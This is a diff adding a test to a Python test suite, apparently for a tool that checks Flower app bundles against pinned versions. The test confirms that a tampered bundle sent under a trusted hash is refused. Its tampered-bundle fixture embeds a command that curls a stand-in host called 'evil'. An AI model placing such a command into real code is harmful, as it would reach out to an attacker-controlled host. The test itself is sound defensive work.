@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import hashlib
 import io
 import zipfile
 
@@ -66,3 +67,19 @@ def test_a_bundle_naming_another_client_app_is_refused(app_dir):
         check_fab(_rezip(_fab(app_dir), {"pyproject.toml": text.encode()}))
     with pytest.raises(CodePinError, match="not a readable Flower app bundle"):
         check_fab(b"not a zip")
+
+
+def test_the_runner_checks_each_bundle_it_receives_not_the_hash_the_server_claims(app_dir):
+    """A changed bundle sent under the hash of one the site accepted before is refused:
+    the runner remembers verdicts by the bytes it received, never by ``fab.hash_str``."""
+    from flwr.supercore.fab import Fab
+
+    from fedseal.client.runner import Runner
+
+    runner = Runner("127.0.0.1:9", b"secret")  # never connects: only its verdicts are used
+    good = _fab(app_dir)
+    claimed = hashlib.sha256(good).hexdigest()
+    assert runner.verdict(Fab(claimed, good, {})) == ""
+    evil = _rezip(good, {"client/app.py": b"import os\nos.system('curl evil')\n"})
+    assert "changed: client/app.py" in runner.verdict(Fab(claimed, evil, {}))
+    assert runner.verdict(Fab(claimed, good, {})) == ""  # the real bundle is still accepted
